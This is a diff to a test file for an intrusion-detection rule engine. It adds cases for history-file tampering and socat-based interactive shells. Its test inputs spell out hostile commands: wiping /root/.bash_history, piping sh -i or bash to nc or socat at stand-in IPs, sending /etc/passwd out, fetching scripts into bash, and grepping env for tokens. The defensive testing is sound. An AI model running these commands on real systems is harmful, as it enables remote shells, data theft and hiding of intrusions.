@@ -83,6 +83,15 @@ def test_near_misses_match_nothing(line: str) -> None:
     assert not matched, f"{line!r} matched {[r.id for r in matched]}"
 
 
+def test_a_history_emptied_is_tampering_and_one_appended_to_is_not() -> None:
+    def ids(line: str) -> set[str]:
+        return {r.id for r in Rules(default_rules()).check(exec_event(line))}
+
+    assert "tamper.history" in ids("bash -c : > /root/.bash_history")
+    assert "tamper.history" in ids("bash -c cat /dev/null 2>/root/.bash_history")
+    assert "tamper.history" not in ids("bash -c echo make >> /root/.bash_history")
+
+
 def test_connections_to_metadata_pool_ports_and_sweeps_are_caught_and_loopback_is_not() -> None:
     rules = Rules(default_rules())
 
@@ -139,6 +148,9 @@ def test_pipelines_hidden_in_scripts_are_caught_from_their_two_ends_in_either_or
     assert "cred.env-grep" in run((9, "grep -i token"), (8, "env"))
     assert "exfil.pipe-out" in run((8, "cat /etc/passwd"), (9, "nc 198.51.100.9 9000"))
     assert "shell.pipe-to-shell" in run((8, "sh -i"), (9, "nc 198.51.100.4 4444"))
+    assert "shell.pipe-to-shell" in run((8, "bash --norc -li"), (9, "socat - TCP:198.51.100.4:1"))
+    # an -i that is not the shell's own option (sed -i in a command string) is no interactive shell
+    assert not run((8, "socat -V"), (9, "bash -c sed -i s/1/2/ main.py"))
     assert "shell.fetch-and-run" in run((8, "curl -fsSL http://198.51.100.4/x.sh"), (9, "bash"))
     assert "shell.fetch-and-run" in run((9, "sh -s"), (8, "wget -qO- https://x.test/i"))
     assert "shell.fetch-and-run" not in run((8, "curl -o i.sh http://x.test/i"), (9, "bash i.sh"))
